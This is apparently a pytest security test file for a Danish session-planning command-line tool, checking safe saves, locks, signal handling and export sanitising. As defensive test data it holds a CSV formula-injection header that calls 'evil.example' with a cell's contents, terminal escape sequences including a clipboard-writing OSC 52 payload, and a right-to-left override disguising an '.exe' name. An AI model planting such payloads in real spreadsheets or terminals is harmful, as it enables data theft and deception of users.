"""Hostile surroundings of what the program writes: reports that would overwrite, prompts,
locks, signals. One test (or more) per finding, each failing on the code before the fix.

Stops, signals, a closed window and a fresh interpreter's imports are the real program in a
child process; so is one case of each kind of hostile file (`run_program`). The other cases run
the same command line in-process (`run_inside`), which saves a start-up each."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from samarbejde.base.errors import ContentError, SessionError
from samarbejde.cli.app import main
from samarbejde.guide.content import load_guide
from samarbejde.guide.texts import bundled_guide_path, fallback_texts
from samarbejde.sessions.model import Outreach, Partner
from samarbejde.sessions.store import Store
from tests.helpers.program import FIXTURES, NOW, ROOT, run_inside, run_program

VALID = (FIXTURES / "session_v1.yaml").read_bytes()
GUIDE = yaml.safe_load(bundled_guide_path().read_text(encoding="utf-8"))
NAME = "Fællesspisning i Nordby"


def said(text: str) -> str:
    return " ".join(text.split())


def everything_said(err: Exception) -> str:
    texts = fallback_texts()
    lines = [texts.render(err.msg)] + [texts.render(d) for d in err.details]  # type: ignore[attr-defined]
    return said(" ".join(lines))


def sessions_home(tmp_path: Path, **files: bytes) -> Path:
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    for name, data in files.items():
        (home / "sessions" / f"{name}.yaml").write_bytes(data)
    return home


def guide_variant(tmp_path: Path, change, name: str = "vores-guide.yaml") -> Path:
    data = copy.deepcopy(GUIDE)
    change(data)
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def with_field(field: str, value: str, data: bytes = VALID) -> bytes:
    """The fixture session with one top-level line replaced."""
    return re.sub(rf"(?m)^{field}: .*$", f"{field}: {value}", data.decode()).encode()


# -- 1. the program's own save never writes a file it then refuses to read ---------------------


def test_many_short_rounds_save_at_about_the_size_they_were_read(tmp_path: Path) -> None:
    rounds = b"rounds:\n" + b"- {date: 2026-01-01, finished: true}\n" * 12_000
    data = VALID + rounds
    assert 400_000 < len(data) < 1_000_000
    home = sessions_home(tmp_path, nordby=data)
    path = home / "sessions" / "nordby.yaml"
    store = Store(home, lambda: NOW)
    session = store.load(path)
    store.save(session, path)  # as `evaluate` + Ctrl-C did: 1,368,438 bytes before
    assert path.stat().st_size < 1_000_000
    assert Store(home, lambda: NOW).load(path) == session
    result = run_inside("list", env={"SAMARBEJDE_HOME": str(home)})
    assert result.returncode == 0 and "ulæselig" not in result.stdout


def test_a_save_too_big_to_read_back_keeps_the_old_file_and_says_so(tmp_path: Path) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    path = home / "sessions" / "nordby.yaml"
    store = Store(home, lambda: NOW)
    session = store.load(path)
    session.answers["dagligdag"]["problem"] = "ensomhed " * 130_000  # 1.1 MB
    with pytest.raises(SessionError) as caught:
        store.save(session, path)
    text = fallback_texts().render(caught.value.msg)
    assert "ikke gemt" in text and "1 MB" in text and str(path) in text
    assert path.read_bytes() == VALID
    assert not [p for p in path.parent.iterdir() if p.name != "nordby.yaml"]


# -- 2. reports never overwrite a session, loadable or not -------------------------------------


def test_a_report_never_replaces_a_session_this_program_cannot_load(tmp_path: Path) -> None:
    low = re.sub(rb"(interest|influence): \d", rb"\1: 1", with_field("name", "Lav"))
    home = sessions_home(tmp_path, nordby=VALID, lav=low)
    newer = tmp_path / "kollega.yaml"
    newer.write_bytes(with_field("schema_version", "2"))
    off_scale = tmp_path / "skala.yaml"  # version 1, but a rating above this content's scale
    off_scale.write_bytes(VALID)
    content = guide_variant(tmp_path, lambda d: d["diagram"].update(scale_max=3, high_from=2))
    env = {"SAMARBEJDE_HOME": str(home)}
    runs = [
        ("agenda", "--ics", str(newer)),
        ("agenda", "--ics", str(newer), "--force"),
        ("export", NAME, "-o", str(newer), "--force"),
        ("export", NAME, "-f", "ics", "-o", str(newer), "--force"),
        ("--content", str(content), "agenda", "--ics", str(off_scale), "--force"),
        ("--content", str(content), "export", "Lav", "-o", str(off_scale), "--force"),
    ]
    for args in runs:
        run = run_program if args == runs[0] else run_inside  # the real program once
        result = run(*args, env=env)
        assert result.returncode == 1, (args, result.stdout, result.stderr)
        assert "Rapporten skrives ikke" in said(result.stderr), args
    assert newer.read_bytes() == with_field("schema_version", "2")
    assert off_scale.read_bytes() == VALID


def test_agenda_ics_overwrites_a_file_only_with_force(tmp_path: Path) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    important = tmp_path / "vigtig.docx"
    important.write_bytes(b"PK\x03\x04 et vigtigt dokument")
    env = {"SAMARBEJDE_HOME": str(home)}
    result = run_inside("agenda", "--ics", str(important), env=env)
    assert result.returncode == 1 and "findes allerede" in said(result.stderr)
    assert important.read_bytes() == b"PK\x03\x04 et vigtigt dokument"
    result = run_inside("agenda", "--ics", str(important), "--force", env=env)
    assert result.returncode == 0, result.stderr
    assert important.read_bytes().startswith(b"BEGIN:VCALENDAR")


def test_no_report_in_a_folder_inside_the_sessions_folder(tmp_path: Path) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    inner = home / "sessions" / "gamle"
    inner.mkdir()
    result = run_inside("export", "-o", str(inner / "r.md"), env={"SAMARBEJDE_HOME": str(home)})
    assert result.returncode == 1 and not (inner / "r.md").exists()


# -- 3. a conflict copy's name from content goes through the slug ------------------------------


def test_a_content_word_cannot_break_the_conflict_copy(tmp_path: Path) -> None:
    content = guide_variant(tmp_path, lambda d: d["ui"].update(conflict_file_word="x/../../y"))
    word = load_guide(content).texts("conflict_file_word")
    home = sessions_home(tmp_path, nordby=VALID)
    path = home / "sessions" / "nordby.yaml"
    store = Store(home, lambda: NOW, word)
    session = store.load(path)
    path.write_bytes(VALID + b"# changed by a colleague\n")
    session.organisation = "Mit svar"
    with pytest.raises(SessionError) as caught:
        store.save(session, path)
    assert caught.value.msg.key == "error_session_conflict"
    copies = [p for p in path.parent.iterdir() if p.name.startswith("nordby.x-y-")]
    assert len(copies) == 1 and Store(home, lambda: NOW).load(copies[0]).organisation == "Mit svar"


# -- 4. one session, two paths: one lock ----------------------------------------------------------


def test_a_session_reached_by_a_link_and_by_its_own_path_is_one_session(tmp_path: Path) -> None:
    home = sessions_home(tmp_path)
    shared = tmp_path / "delt"
    shared.mkdir()
    real = shared / "x.yaml"
    real.write_bytes(VALID)
    (home / "sessions" / "x.yaml").symlink_to(real)
    code = (
        "import sys, time, datetime as dt; from pathlib import Path;"
        "from samarbejde.sessions.lock import SessionLock;"
        "lock = SessionLock(Path(sys.argv[1]), dt.datetime.now); lock.acquire();"
        "print('held', flush=True); time.sleep(30)"
    )
    holder = subprocess.Popen(  # the wizard that opened it by the link (`evaluate x`)
        [sys.executable, "-c", code, str(home / "sessions" / "x.yaml")],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        env = {"SAMARBEJDE_HOME": str(home)}
        result = run_inside("delete", str(real), "--yes", env=env)
        assert result.returncode == 1 and "er åben et andet sted" in said(result.stderr)
        assert real.read_bytes() == VALID
        from samarbejde.sessions.lock import SessionLock

        other = SessionLock(real, lambda: NOW)
        with pytest.raises(SessionError):
            other.acquire()  # `evaluate /shared/x.yaml` is refused too
    finally:
        holder.kill()
        holder.wait()


# -- 5. CSV headers and content text ----------------------------------------------------------


def test_csv_header_cells_from_content_are_never_formulas(tmp_path: Path) -> None:
    def change(d) -> None:
        d["ui"]["name"] = '=HYPERLINK("http://evil.example/?"&B2;"Navn")'
        d["ui"]["kind"] = "=1+1"
        d["diagram"]["x"]["name"] = "@SUM(A1)"
        d["diagram"]["y"]["name"] = "+1"

    content = guide_variant(tmp_path, change)
    home = sessions_home(tmp_path, nordby=VALID)
    result = run_inside(
        "--content", str(content), "export", "-f", "csv", "-o", "-",
        env={"SAMARBEJDE_HOME": str(home)},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    header = next(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter=";"))
    assert header[0].startswith("'=HYPERLINK") and header[1] == "'=1+1"
    assert header[4] == "'@SUM(A1)" and header[5] == "'+1"


@pytest.mark.parametrize(
    ("place", "value"),
    [
        (("diagram", "x", "name"), "Interesse\x1b]52;c;ZWNobyBwd25lZA==\x07"),
        (("ui", "name"), "Navn\x9b2J"),
        (("ui", "conflict_file_word"), "konflikt\u202e"),
        (("title",), "Guide\x1b[2J"),
    ],
)
def test_a_control_character_in_content_is_refused_with_its_place(
    tmp_path: Path, place: tuple[str, ...], value: str
) -> None:
    def change(d) -> None:
        parent = d
        for key in place[:-1]:
            parent = parent[key]
        parent[place[-1]] = value

    content = guide_variant(tmp_path, change)
    with pytest.raises(ContentError) as caught:
        load_guide(content)
    text = everything_said(caught.value)
    assert ".".join(place) in text and "styretegn" in text
    home = sessions_home(tmp_path, nordby=VALID)
    run = run_program if place == ("title",) else run_inside  # the real program once
    result = run(
        "--content", str(content), "export", "-f", "csv", "-o", "-",
        env={"SAMARBEJDE_HOME": str(home)},
    )  # fmt: skip
    assert result.returncode == 1 and "\x1b" not in result.stdout + result.stderr


# -- 6. bidirectional overrides never reach a prompt ------------------------------------------


def prompt_screen(keys: str, argv: list[str], home: Path) -> tuple[int, str]:
    """Run `argv` in-process with `keys` typed; what prompt_toolkit drew, as written."""
    from prompt_toolkit.application import create_app_session
    from prompt_toolkit.data_structures import Size
    from prompt_toolkit.input import create_pipe_input
    from prompt_toolkit.output.vt100 import Vt100_Output

    from samarbejde.base.terminal import make_console
    from samarbejde.runner.env import Env

    drawn = io.StringIO()
    env = Env(
        console=make_console(file=io.StringIO(), width=80, color_system=None),
        err=make_console(file=io.StringIO(), width=80, color_system=None),
        home=home,
        now=lambda: NOW,
        stdin_isatty=lambda: True,
    )
    with create_pipe_input() as pipe:
        pipe.send_text(keys)
        pipe.close()
        output = Vt100_Output(drawn, lambda: Size(30, 100), term="xterm")
        with create_app_session(input=pipe, output=output):
            code = main(argv, env)
    return code, drawn.getvalue()


def test_a_name_with_an_override_reaches_no_prompt_turned_around(tmp_path: Path) -> None:
    name = "Faktura\u202etxt.exe"
    home = sessions_home(tmp_path, faktura=with_field("name", f'"{name}"'))
    for argv, keys in ((["resume"], "\r\x03"), ([], "\x03")):  # the chooser, the menu, bare
        code, drawn = prompt_screen(keys, argv, home)
        assert code == 130
        assert "Fakturatxt.exe" in drawn, argv  # shown, without the override
        assert "\u202e" not in drawn and "\u202d" not in drawn, argv


# -- 7. Ctrl-C stops any command at once, and Word's plans are capped ---------------------------

SLOW_EXPORT = """
import os, signal, sys, time
import samarbejde.reports.render as export

STAMP = sys.argv[2]

def slow(*args, **kwargs):
    with open(STAMP, "w") as fh:
        fh.write(repr(time.time()))
    os.kill(os.getpid(), signal.{signal})  # the user stops it while it works
    time.sleep(30)
    return "never"

export.html_report = slow
sys.argv = ["samarbejde", "export", "-f", "html", "-o", sys.argv[1], "--force"]
import samarbejde
samarbejde.run()
"""


@pytest.mark.parametrize("signal_name", ["SIGINT", "SIGTERM"])
def test_a_stop_ends_a_long_export_within_a_second_and_writes_nothing(
    tmp_path: Path, signal_name: str
) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    target = tmp_path / "ud" / "rapport.html"
    target.parent.mkdir()
    script = SLOW_EXPORT.format(signal=signal_name)
    stamp = tmp_path / "stopped-at"
    result = subprocess.run(
        [sys.executable, "-c", script, str(target), str(stamp)],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "SAMARBEJDE_HOME": str(home), "PYTHONPATH": str(ROOT)},
    )
    took = time.time() - float(stamp.read_text())
    assert result.returncode == 130, result.stderr
    assert took < 1.0, took  # the export itself would have taken 30 s
    assert "Traceback" not in result.stderr
    assert list(target.parent.iterdir()) == []


FSYNC_STOP = """
import os, signal, sys
real_fsync = os.fsync

def stopped_in_fsync(fd):
    real_fsync(fd)
    os.kill(os.getpid(), signal.{signal})  # SIGTERM (a shutdown) while the report is synced

os.fsync = stopped_in_fsync
sys.argv = ["samarbejde", "export", "-o", sys.argv[1]]
import samarbejde
samarbejde.run()
"""


@pytest.mark.parametrize("signal_name", ["SIGINT", "SIGTERM"])
def test_a_stop_during_the_write_leaves_no_temporary_file(tmp_path: Path, signal_name) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    target = tmp_path / "ud" / "rapport.md"
    target.parent.mkdir()
    result = subprocess.run(
        [sys.executable, "-c", FSYNC_STOP.format(signal=signal_name), str(target)],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "SAMARBEJDE_HOME": str(home), "PYTHONPATH": str(ROOT)},
    )
    assert result.returncode == 130, (result.returncode, result.stderr)
    assert list(target.parent.iterdir()) == []


def test_word_gives_at_most_a_hundred_plans_a_section_and_counts_the_rest(tmp_path: Path) -> None:
    from docx import Document

    home = sessions_home(tmp_path)
    store = Store(home, lambda: NOW)
    session = store.load(_write(tmp_path, VALID))
    session.partners = [Partner(id=f"p{i}", name=f"Partner {i}") for i in range(150)]
    session.outreach = {p.id: Outreach(key_persons="Birthe") for p in session.partners}
    store.save(session, store.folder / "mange.yaml")
    target = tmp_path / "mange.docx"
    result = run_inside(
        "export", "-f", "docx", "-o", str(target), env={"SAMARBEJDE_HOME": str(home)}
    )
    assert result.returncode == 0, result.stderr
    paragraphs = [p.text for p in Document(str(target)).paragraphs]
    plans = [t for t in paragraphs if re.fullmatch(r"Partner \d+ \(.*\)", t)]
    assert len(plans) == 100
    assert any("… og 50 partnere mere i kontaktplanen" in t for t in paragraphs)


def _write(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "kilde.yaml"
    path.write_bytes(data)
    return path


# -- 8. a time at the calendar's end, west of UTC ---------------------------------------------


@pytest.mark.parametrize("zone", ["America/Nuuk", "Pacific/Kiritimati"])
def test_the_last_second_of_the_calendar_hides_no_session(tmp_path: Path, zone: str) -> None:
    last = with_field("updated", "9999-12-31 23:59:59", with_field("name", "Sidst"))
    first = with_field("updated", "0001-01-01 00:00:00", with_field("name", "Først"))
    home = sessions_home(tmp_path, nordby=VALID, sidst=last, foerst=first)
    env = {"SAMARBEJDE_HOME": str(home), "TZ": zone, "COLUMNS": "100"}
    for args in (["list"], ["agenda"], ["summary", "Sidst"], ["export", "Sidst", "-o", "-"],
                 ["export", "Først", "-o", "-"], ["summary", NAME]):  # fmt: skip
        # west of UTC, the real program once; the rest in-process, in the same zone (TZ)
        run = run_program if (zone, args) == ("America/Nuuk", ["list"]) else run_inside
        result = run(*args, env=env)
        assert result.returncode == 0, (args, result.stderr)
        assert "Traceback" not in result.stderr
    listed = run_inside("list", env=env).stdout
    assert NAME in listed and "Sidst" in listed and "Først" in listed


# -- 9, 10. content values the program indexes or writes into Word ------------------------------


def test_agenda_with_a_content_file_without_ui(tmp_path: Path) -> None:
    content = guide_variant(tmp_path, lambda d: d.pop("ui"))
    home = sessions_home(tmp_path, nordby=VALID)
    for columns in ("40", "120"):
        result = run_inside(
            "--content", str(content), "agenda",
            env={"SAMARBEJDE_HOME": str(home), "COLUMNS": columns},
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        assert "Frivilligcentret" in result.stdout


@pytest.mark.parametrize("words", ["mandag", "a,b,c,d,e,f,g,h", "a,,c,d,e,f,g"])
def test_the_weekday_names_are_seven_or_the_content_is_refused(tmp_path: Path, words) -> None:
    content = guide_variant(tmp_path, lambda d: d["ui"].update(date_words_weekdays=words))
    with pytest.raises(ContentError) as caught:
        load_guide(content)
    said = everything_said(caught.value)
    assert "ui.date_words_weekdays" in said and "7 ord" in said


@pytest.mark.parametrize("language", ["da\x01", "dansk sprog", "", "da_DK", "x" * 40])
def test_the_language_is_a_language_tag(tmp_path: Path, language: str) -> None:
    content = guide_variant(tmp_path, lambda d: d.update(language=language))
    with pytest.raises(ContentError) as caught:
        load_guide(content)
    said = everything_said(caught.value)
    assert "language: ugyldigt sprog" in said


def test_word_with_a_regional_language_tag(tmp_path: Path) -> None:
    from docx import Document

    content = guide_variant(tmp_path, lambda d: d.update(language="da-DK"))
    home = sessions_home(tmp_path, nordby=VALID)
    target = tmp_path / "r.docx"
    result = run_inside(
        "--content", str(content), "export", "-f", "docx", "-o", str(target),
        env={"SAMARBEJDE_HOME": str(home)},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert Document(str(target)).core_properties.language == "da-DK"


# -- 11. a file name too long is named, with its reason ----------------------------------------


def test_a_report_name_too_long_is_named_with_the_reason(tmp_path: Path, monkeypatch) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    monkeypatch.chdir(tmp_path)
    name = "r" * 300 + ".md"
    result = run_inside("export", "-o", name, env={"SAMARBEJDE_HOME": str(home)})
    assert result.returncode == 1
    text = said(result.stderr)
    assert "kunne ikke skrive sit svar" not in text
    assert "Rapporten kunne ikke gemmes" in text and "filnavnet er for langt" in text
    assert "r" * 300 in text.replace(" ", "")


# -- 12. temporary files of a killed write are swept -------------------------------------------


def test_stale_temporary_files_are_swept_when_the_folder_is_written_again(tmp_path: Path) -> None:
    home = sessions_home(tmp_path, nordby=VALID)
    out = tmp_path / "ud"
    out.mkdir()
    day_and_a_bit = time.time() - 25 * 3600
    stale = [out / ".rapport.mdk2j3h4g5.tmp", out / ".andet.md1a2b3c4d.samarbejde.tmp"]
    fresh = out / ".rapport.mdq9w8e7r6.tmp"  # another write, perhaps under way right now
    foreign = out / ".noget-andet.tmp"  # not ours
    for path in (*stale, fresh, foreign):
        path.write_bytes(b"en halv rapport")
    for path in (*stale, foreign):
        os.utime(path, (day_and_a_bit, day_and_a_bit))
    result = run_inside("export", "-o", str(out / "rapport.md"), env={"SAMARBEJDE_HOME": str(home)})
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == sorted([fresh.name, foreign.name, "rapport.md"])


# -- 13. calendar UIDs are unique to their file --------------------------------------------------


def test_two_files_of_one_session_give_events_of_their_own(tmp_path: Path) -> None:
    from icalendar import Calendar

    home = sessions_home(tmp_path, nordby=VALID, **{"nordby.konflikt-20261127-100000": VALID})
    result = run_inside(
        "agenda", "--days", "3650", "--ics", "-", env={"SAMARBEJDE_HOME": str(home)}
    )
    assert result.returncode == 0, result.stderr
    events = Calendar.from_ical(result.stdout).walk("VEVENT")
    uids = [str(e["uid"]) for e in events]
    assert len(uids) >= 4 and len(set(uids)) == len(uids)


def test_a_file_named_like_a_colleagues_session_cannot_take_its_events(tmp_path: Path) -> None:
    from icalendar import Calendar

    home = sessions_home(tmp_path, nordby=VALID)
    hostile = tmp_path / "post" / "nordby.yaml"
    hostile.parent.mkdir()
    hostile.write_bytes(VALID)
    env = {"SAMARBEJDE_HOME": str(home)}

    def uids(*args: str) -> set[str]:
        result = run_inside("export", *args, "-f", "ics", "-o", "-", env=env)
        assert result.returncode == 0, result.stderr
        return {str(e["uid"]) for e in Calendar.from_ical(result.stdout).walk("VEVENT")}

    own, theirs = uids(str(home / "sessions" / "nordby.yaml")), uids(str(hostile))
    assert own and theirs and not own & theirs
    assert own == uids(NAME)  # the same file, by name or by path: the same events


# -- 14. closing the window during evaluate -------------------------------------------------------


@pytest.mark.parametrize("command", ["evaluate", "resume"])
def test_closing_the_window_is_a_stop_not_an_error(tmp_path: Path, command: str) -> None:
    import pexpect

    home = sessions_home(tmp_path, nordby=VALID)
    env = {**os.environ, "SAMARBEJDE_HOME": str(home), "TERM": "xterm-256color"}
    env["PROMPT_TOOLKIT_NO_CPR"] = "1"
    child = pexpect.spawn(
        sys.executable, ["-m", "samarbejde", command, "nordby"],
        env=env, dimensions=(24, 80), encoding="utf-8", timeout=20,
    )  # fmt: skip
    child.expect_exact("?")
    child.expect_exact("(")  # the hint: the prompt is drawn and waiting
    time.sleep(0.3)
    os.close(child.child_fd)  # the window goes: the terminal sends SIGHUP, writes fail
    _, status = os.waitpid(child.pid, 0)
    child.closed = True
    assert os.WIFEXITED(status), status
    assert os.WEXITSTATUS(status) == 130
    store = Store(home, lambda: NOW)
    assert store.load(home / "sessions" / "nordby.yaml").name == NAME


# -- 15. only the last round can be under way ---------------------------------------------------


def test_an_unfinished_round_before_the_last_is_refused_with_its_place(tmp_path: Path) -> None:
    rounds = (
        b"rounds:\n- {date: 2026-11-01, finished: true}\n- {date: 2026-11-10, finished: false}\n"
        b"- {date: 2026-11-20, finished: true}\n"
    )
    home = sessions_home(tmp_path, nordby=VALID + rounds)
    with pytest.raises(SessionError) as caught:
        Store(home, lambda: NOW).load(home / "sessions" / "nordby.yaml")
    text = fallback_texts().render(caught.value.msg)
    assert "rounds[1].finished" in text and "kun den sidste runde" in text
    last = VALID + rounds.replace(b"false", b"true")[:-1] + b"\n- {date: 2026-11-25}\n"
    (home / "sessions" / "nordby.yaml").write_bytes(last)
    assert not Store(home, lambda: NOW).load(home / "sessions" / "nordby.yaml").rounds[-1].finished


# -- 16. the README: two commands on every machine, and each promise held by a test -------------


def test_the_readme_gives_the_commands_for_powershell_too() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    top = readme.split("## Hvad er det?")[0]
    assert ".venv/bin/samarbejde start" in top
    assert (
        "py -m venv .venv; .venv\\Scripts\\pip install .; .venv\\Scripts\\samarbejde start" in top
    )
    assert ".venv\\Scripts\\python -m pytest" in top


def test_every_promise_in_sikkerhed_og_data_names_a_test_that_exists() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Sikkerhed og data")[1].split("\n## ")[0]
    promises = [p for p in re.split(r"\n- ", section)[1:]]
    assert len(promises) >= 6
    for promise in promises:
        named = re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", promise)
        assert named, promise[:60]
        for file, test in named:
            source = (ROOT / file).read_text(encoding="utf-8")
            assert re.search(rf"(?m)^def {test}\(", source), (file, test)


NO_NETWORK = """
import json, socket, sys

def refuse(*args, **kwargs):
    raise SystemExit("a socket was opened")

socket.socket.__init__ = refuse
socket.create_connection = refuse
socket.getaddrinfo = refuse
import samarbejde
for args in json.loads(sys.argv[1]):
    print("command:", *args, file=sys.stderr, flush=True)
    code = samarbejde._start(["samarbejde", *args])  # what the console script runs
    if code != 0:
        raise SystemExit(f"exit code {code}")
"""


def test_no_command_opens_a_socket(tmp_path: Path) -> None:
    """Every command in one fresh interpreter whose sockets refuse before anything is
    imported: a socket opened at an import or in a command ends it, and its error output
    names the command (one interpreter for the nine commands: each start-up cost half a
    second of CPU)."""
    home = sessions_home(tmp_path, nordby=VALID)
    env = {**os.environ, "SAMARBEJDE_HOME": str(home), "PYTHONPATH": str(ROOT)}
    runs = [["list"], ["summary", "--json"], ["agenda", "--ics", "-"], ["guide"]]
    runs += [["export", "-f", fmt, "-o", str(tmp_path / f"r.{fmt}")] for fmt in
             ("md", "html", "docx", "csv", "ics")]  # fmt: skip
    result = subprocess.run(
        [sys.executable, "-c", NO_NETWORK, json.dumps(runs)],
        capture_output=True, text=True, timeout=120, env=env,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stderr.count("command:") == len(runs), result.stderr[-2000:]
    written = [tmp_path / f"r.{fmt}" for fmt in ("md", "html", "docx", "csv", "ics")]
    assert all(path.stat().st_size for path in written)


def test_every_kind_of_prompt_shows_no_override_or_control_character() -> None:
    """The one filter in `prompts`: a question, its choices and a text's default (evaluate's
    partner checkbox, the wizard's questions) as drawn on the terminal."""
    from prompt_toolkit.application import create_app_session
    from prompt_toolkit.data_structures import Size
    from prompt_toolkit.input import create_pipe_input
    from prompt_toolkit.output.vt100 import Vt100_Output

    from samarbejde.base.terminal import make_console
    from samarbejde.runner.prompts import Prompts

    name = "Faktura\u202etxt.exe\x1b]0;titel\x07"
    asks = [
        lambda p: p.checkbox(f"Hvilke af {name}?", [(1, name, True), (2, "Andet", False)]),
        lambda p: p.select(f"{name}?", [(1, name), (2, "b")], 1, digits=True),
        lambda p: p.text(f"{name}?", default=name, hint=name),
    ]
    for ask in asks:
        drawn = io.StringIO()
        with create_pipe_input() as pipe:
            pipe.send_text("\r")
            pipe.close()
            output = Vt100_Output(drawn, lambda: Size(30, 100), term="xterm")
            with create_app_session(input=pipe, output=output):
                ask(Prompts(load_guide().texts, make_console(file=io.StringIO())))
        screen = drawn.getvalue()
        assert "Fakturatxt.exe" in screen
        assert "\u202e" not in screen and "\x07" not in screen and "]0;titel" in screen


@pytest.mark.parametrize(
    "args",
    [
        ("export", "--partner", "Frivilligcentret", "--format", "html", "-o", "r" * 300 + ".html"),
        ("export", "--format", "share", "--include", "dagligdag", "-o", "r" * 300 + ".yaml"),
    ],
)
def test_every_file_the_user_names_too_long_is_named_with_the_reason(
    tmp_path: Path, monkeypatch, args: tuple[str, ...]
) -> None:
    """The partner's page and the share file go through the same place as the report: a name
    too long for the system is said with the file and the reason (it was "kunne ikke skrive
    sit svar", the message for a broken screen)."""
    home = sessions_home(tmp_path, nordby=VALID)
    monkeypatch.chdir(tmp_path)
    result = run_inside(*args, env={"SAMARBEJDE_HOME": str(home)})
    text = said(result.stderr)
    assert result.returncode == 1 and "kunne ikke skrive sit svar" not in text
    assert "filnavnet er for langt" in text and "r" * 300 in text.replace(" ", "")
